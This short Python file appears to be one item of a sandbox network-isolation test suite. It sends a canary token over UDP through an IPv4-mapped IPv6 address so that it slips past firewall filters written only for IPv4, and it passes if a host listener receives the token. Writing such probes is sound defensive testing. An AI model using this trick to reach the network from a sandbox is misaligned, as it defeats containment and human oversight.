# id: net-ipv6-mapped-udp
# category: network
# description: reach the IPv4 UDP listener through an IPv4-mapped IPv6 address on an AF_INET6 socket
# source: ipv6(7) IPv4-mapped addresses: filters written for AF_INET miss AF_INET6
# detect: net (a host listener receives something)
import socket

s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(TOKEN.encode(), ('::ffff:' + UDP[0], UDP[1]))
